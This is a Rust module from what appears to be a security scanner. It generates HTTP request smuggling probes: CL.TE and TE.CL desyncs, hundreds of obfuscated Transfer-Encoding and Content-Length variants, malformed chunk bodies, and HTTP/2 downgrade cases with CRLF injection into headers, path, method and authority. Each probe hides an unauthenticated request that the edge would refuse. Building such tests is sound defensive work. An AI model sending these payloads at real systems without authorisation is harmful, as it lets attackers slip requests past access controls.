//! Where one request ends and the next begins.

use super::http2::Stream;
use super::wire::{self, Request};
use super::{Case, Family, Goal, MARK, SMUGGLED, Shot, Site};

const LENGTH_FIRST: Family =
    Family { name: "smuggling, CL.TE", through: "the origin answers a request that the edge did not judge" };
const CODING_FIRST: Family =
    Family { name: "smuggling, TE.CL", through: "the origin answers a request that the edge did not judge" };
const LENGTHS: Family = Family {
    name: "smuggling, lengths and chunks",
    through: "the origin answers a request that the edge did not judge",
};
const DOWNGRADE: Family = Family {
    name: "smuggling, HTTP/2 to HTTP/1.1",
    through: "the origin answers a request that the edge did not judge",
};

pub(super) fn cases(site: &Site) -> Vec<Case> {
    let mut cases = Vec::new();
    for (name, lines) in codings() {
        let shot = |request: &Request| Shot::Raw([request.bytes(), last(site)].concat());
        let case = |family, shot| Case { family, name: name.clone(), shot, goal: Goal::Smuggle, code: None };
        // By its length the body is all of it; by its coding the body ends at once.
        let body = format!("0\r\n\r\n{}", hidden(site));
        cases.push(case(
            &LENGTH_FIRST,
            shot(&start(site).header("content-length", body.len().to_string()).line(&lines).follow(body)),
        ));
        // By its coding the body is all of it; by its length it ends after the size of the first chunk.
        let inside = hidden(site);
        let body = format!("{:x}\r\n{inside}\r\n0\r\n\r\n", inside.len());
        let first = body.find('\n').unwrap_or_default() + 1;
        cases.push(case(
            &CODING_FIRST,
            shot(&start(site).header("content-length", first.to_string()).line(&lines).follow(body)),
        ));
    }
    cases.extend(lengths(site));
    cases.extend(downgrade(site));
    cases
}

/// The request around it.
fn start(site: &Site) -> Request {
    match &site.open {
        Some(open) => wire::request("POST", open, &site.host),
        None => wire::request("GET", &site.path, &site.host).bearer(site.token.as_deref()),
    }
}

/// The request inside. Nobody may see it but the edge, which refuses it: it has no token.
fn hidden(site: &Site) -> String {
    format!("GET {}?{SMUGGLED}={MARK} HTTP/1.1\r\nhost: {}\r\n\r\n", site.path, site.host)
}

/// The request behind it; its answer ends the connection.
fn last(site: &Site) -> Vec<u8> {
    wire::request("GET", format!("{}?last", site.path), &site.host).close().bytes()
}

/// Every way to write `Transfer-Encoding: chunked` so that some server sees it and another does
/// not: one or more lines, without the last line break.
fn codings() -> Vec<(String, Vec<u8>)> {
    let mut lines: Vec<Vec<u8>> = Vec::new();
    let odd: Vec<u8> = (0x00..=0x20)
        .chain([0x22, 0x27, 0x2c, 0x2f, 0x3a, 0x3b, 0x3d, 0x5c, 0x5f, 0x7f, 0x80, 0x85, 0x8a, 0xa0, 0xad, 0xff])
        .collect();
    for byte in odd {
        let byte = &[byte][..];
        for pattern in [
            "Transfer-Encoding:@chunked",
            "Transfer-Encoding@: chunked",
            "@Transfer-Encoding: chunked",
            "Transfer-Encoding: @chunked",
            "Transfer-Encoding: chunked@",
            "Transfer-Encoding: chun@ked",
            "Transfer@Encoding: chunked",
            "Transfer-@Encoding: chunked",
            "Transfer-Encoding@chunked",
            "X: y@Transfer-Encoding: chunked",
            "X: y\r@Transfer-Encoding: chunked",
            "X: y@\nTransfer-Encoding: chunked",
            "Transfer-Encoding: @\"chunked\"",
            "Transfer-Encoding: x@chunked",
            "Transfer-Encoding: chunked@x",
        ] {
            let (before, behind) = pattern.split_once('@').unwrap_or((pattern, ""));
            lines.push([before.as_bytes(), byte, behind.as_bytes()].concat());
        }
    }
    let values = [
        "chunked",
        "Chunked",
        "CHUNKED",
        "cHuNkEd",
        "chunked, identity",
        "identity, chunked",
        "chunked, chunked",
        "gzip, chunked",
        "chunked, gzip",
        "identity",
        "deflate",
        "compress",
        "x-chunked",
        "chunkedx",
        "chunk",
        "chunked;x=y",
        "chunked; q=0.5",
        "chunked ;",
        "\"chunked\"",
        "'chunked'",
        "chunked,",
        ", chunked",
        ",chunked,",
        "cow, chunked",
        "chunked\r\n ",
        "\r\n chunked",
        "\r\n\tchunked",
        "gzip\r\n , chunked",
        "chunked\u{2028}",
        "chunKed",
        "chu\u{212a}ed",
        "false",
        "",
        "0",
        "trailers",
        "chunked chunked",
    ];
    for value in values {
        lines.push(format!("Transfer-Encoding: {value}").into_bytes());
        lines.push(format!("Transfer-Encoding: {value}\r\nTransfer-Encoding: identity").into_bytes());
        lines.push(format!("Transfer-Encoding: identity\r\ntransfer-encoding: {value}").into_bytes());
    }
    for name in [
        "transfer-encoding",
        "TRANSFER-ENCODING",
        "tRANSFER-eNCODING",
        "Transfer_Encoding",
        "Transfer Encoding",
        "TransferEncoding",
        "X-Transfer-Encoding",
        "Content-Encoding",
        "TE",
        "Transfer-Encodinġ",
        "Transfer\u{2010}Encoding",
        "Transfer-Encoding-",
        "Transfer--Encoding",
        "HTTP_TRANSFER_ENCODING",
    ] {
        lines.push(format!("{name}: chunked").into_bytes());
        lines.push(format!("{name}:chunked").into_bytes());
    }
    for more in [
        "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked\r\nConnection: Content-Length",
        "Foo: bar\r\n\rTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
        "Expect: 100-continue\r\nTransfer-Encoding: chunked",
        "TE: chunked\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked\r\nContent-Length: 0",
    ] {
        lines.push(more.into());
    }
    lines.sort();
    lines.dedup();
    lines.into_iter().map(|line| (String::from_utf8_lossy(&line).escape_debug().to_string(), line)).collect()
}

fn lengths(site: &Site) -> Vec<Case> {
    let inside = hidden(site);
    let size = inside.len().to_string();
    let mut requests: Vec<(String, Request)> = Vec::new();
    // Lengths that two readers count differently.
    for value in [
        format!("0, {size}"),
        format!("{size}, 0"),
        format!("0,{size}"),
        format!("+{size}"),
        format!("-{size}"),
        format!("0x{:x}", inside.len()),
        format!("0{size}"),
        format!("{size}.0"),
        format!("{size} "),
        format!("{size}x"),
        "1e2".to_owned(),
        format!(" {size}"),
        format!("\"{size}\""),
        format!("{size}\r\n 0"),
        format!("{size}\0"),
        "18446744073709551616".to_owned(),
        "-0".to_owned(),
        String::new(),
        "٣".to_owned(),
        "1_0".to_owned(),
    ] {
        requests
            .push((format!("Content-Length: {value:?}"), start(site).header("Content-Length", value).follow(&inside)));
    }
    for lines in [
        format!("Content-Length: 0\r\nContent-Length: {size}"),
        format!("Content-Length: {size}\r\nContent-Length: 0"),
        format!("Content-Length: 0\r\ncontent-length: {size}"),
        format!("Content-Length : {size}"),
        format!("Content-Length\t: {size}"),
        format!(" Content-Length: {size}"),
        format!("Content_Length: {size}"),
        format!("X: y\nContent-Length: {size}"),
        format!("X: y\rContent-Length: {size}"),
        format!("Content-Length: 0\nContent-Length: {size}"),
        format!("Content-Length:{size}\r\nConnection: content-length"),
        "X: y\r\n\r".to_owned(),
        "X: y\n".to_owned(),
        "Connection: keep-alive\r\nX: y\n\n".to_owned(),
    ] {
        requests.push((lines.escape_debug().to_string(), start(site).line(lines).follow(&inside)));
    }
    // Chunks that two readers cut differently.
    let chunked = || start(site).header("Transfer-Encoding", "chunked");
    let hex = format!("{:x}", inside.len());
    for body in [
        format!("{hex}\n{inside}\r\n0\r\n\r\n"),
        format!("{hex}\r{inside}\r\n0\r\n\r\n"),
        format!("{hex};\n{inside}\r\n0\r\n\r\n"),
        format!("{hex};x\ry\r\n{inside}\r\n0\r\n\r\n"),
        format!("{hex} \r\n{inside}\r\n0\r\n\r\n"),
        format!(" {hex}\r\n{inside}\r\n0\r\n\r\n"),
        format!("0x{hex}\r\n{inside}\r\n0\r\n\r\n"),
        format!("+{hex}\r\n{inside}\r\n0\r\n\r\n"),
        format!("-1\r\n{inside}\r\n0\r\n\r\n"),
        format!("fffffffffffffffff{hex}\r\n{inside}\r\n0\r\n\r\n"),
        format!("100000000000000{hex}\r\n{inside}\r\n0\r\n\r\n"),
        format!("{hex}\r\n{inside}0\r\n\r\n"),
        format!("{hex}\r\n{inside}xx0\r\n\r\n"),
        format!("0\r\nx: y\n\n{inside}"),
        format!("0\n\n{inside}"),
        format!("0\r\n\n{inside}"),
        format!("0\r\r{inside}"),
        format!("00000000000000000\r\n\r\n{inside}"),
        format!("0;{inside}\r\n\r\n"),
        format!("1\r\nx\n0\r\n\r\n{inside}"),
        format!("0_0\r\n\r\n{inside}"),
        format!("0\r\nContent-Length: 5\r\n\r\n{inside}"),
        format!("0\r\nTransfer-Encoding: identity\r\n\r\n{inside}"),
        format!("1;a=\"\r\n0\r\n\r\n{inside}\"\r\nx\r\n0\r\n\r\n"),
        format!("0\r\n{inside}"),
    ] {
        let name: String = body.escape_debug().take(40).collect();
        requests.push((format!("chunks {name}"), chunked().follow(body)));
    }
    // Bodies where nobody expects one.
    for method in ["GET", "HEAD", "OPTIONS", "DELETE", "TRACE", "CONNECT"] {
        let target = site.open.as_ref().unwrap_or(&site.path);
        requests.push((
            format!("{method} with a body"),
            wire::request(method, target, &site.host).header("content-length", &size).follow(&inside),
        ));
        requests
            .push((format!("{method} without a length"), wire::request(method, target, &site.host).follow(&inside)));
    }
    let old = [
        format!(
            "POST {} HTTP/1.0\r\nhost: {}\r\nconnection: keep-alive\r\n",
            site.open.as_ref().unwrap_or(&site.path),
            site.host
        ),
        format!("Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inside}"),
    ]
    .concat();
    let mut cases: Vec<Case> = requests
        .into_iter()
        .map(|(name, request)| {
            let shot = Shot::Raw([request.bytes(), last(site)].concat());
            Case { family: &LENGTHS, name, shot, goal: Goal::Smuggle, code: None }
        })
        .collect();
    let shot = Shot::Raw([old.into_bytes(), last(site)].concat());
    cases.push(Case { family: &LENGTHS, name: "chunks in HTTP/1.0".to_owned(), shot, goal: Goal::Smuggle, code: None });
    cases
}

fn downgrade(site: &Site) -> Vec<Case> {
    let inside = hidden(site);
    let (target, method) = site.open.as_ref().map_or((&site.path, "GET"), |open| (open, "POST"));
    let stream =
        || Stream::new(method, target, &site.host).bearer(site.token.as_deref().filter(|_| site.open.is_none()));
    let ended = format!("0\r\n\r\n{inside}");
    let mut streams: Vec<(String, Stream)> = Vec::new();
    for length in ["0", "1", "99999", "-1", "+0", "0x1", "0, 0", "", " 0", "18446744073709551616"] {
        streams.push((format!("content-length {length:?}"), stream().field("content-length", length).body(&inside)));
    }
    streams.push((
        "two lengths".to_owned(),
        stream().field("content-length", "0").field("content-length", inside.len().to_string()).body(&inside),
    ));
    for value in ["chunked", "Chunked", "identity, chunked", "chunked\r\n", " chunked", "x"] {
        streams.push((format!("transfer-encoding {value:?}"), stream().field("transfer-encoding", value).body(&ended)));
        let both = stream().field("content-length", ended.len().to_string()).field("transfer-encoding", value);
        streams.push((format!("content-length and transfer-encoding {value:?}"), both.body(&ended)));
    }
    for name in [
        "Transfer-Encoding",
        "transfer_encoding",
        "transfer-encoding ",
        "transfer-encoding:",
        "transfer-encoding: chunked\r\nx",
        "connection",
        "keep-alive",
        "upgrade",
        "proxy-connection",
    ] {
        streams.push((format!("the header {name:?}"), stream().field(name, "chunked").body(&ended)));
    }
    let break_out = format!("x\r\n\r\n{inside}");
    for end in ["\r\n", "\n", "\r", "\0"] {
        let value = format!("x{end}transfer-encoding: chunked");
        let whole = format!("x{end}{end}{inside}");
        streams
            .push((format!("a coding behind {end:?} in a value"), stream().field("x-innocent", &value).body(&ended)));
        streams.push((format!("a request behind {end:?} in a value"), stream().field("x-innocent", &whole)));
        streams.push((format!("a request behind {end:?} in a name"), stream().field(&whole, "x")));
        streams.push((
            format!("a request behind {end:?} in the path"),
            stream().replace(":path", format!("{target} HTTP/1.1{end}host: x{end}{end}{inside}")),
        ));
        streams.push((
            format!("a request behind {end:?} in the method"),
            stream().replace(":method", format!("GET / HTTP/1.1{end}host: x{end}{end}{inside}")),
        ));
        streams.push((
            format!("a request behind {end:?} in the authority"),
            stream().replace(":authority", format!("x{end}{end}{inside}")),
        ));
    }
    streams.push(("a request in a trailer".to_owned(), stream().body("x").trailer("x-innocent", &break_out)));
    streams.push(("a length in a trailer".to_owned(), stream().body(&inside).trailer("content-length", "0")));
    streams.push(("a coding in a trailer".to_owned(), stream().body(&ended).trailer("transfer-encoding", "chunked")));
    streams.push((
        "a body on GET".to_owned(),
        Stream::new("GET", target, &site.host).field("content-length", "0").body(&inside),
    ));
    streams
        .into_iter()
        .map(|(name, stream)| Case {
            family: &DOWNGRADE,
            name,
            shot: Shot::Http2(stream),
            goal: Goal::Smuggle,
            code: None,
        })
        .collect()
}
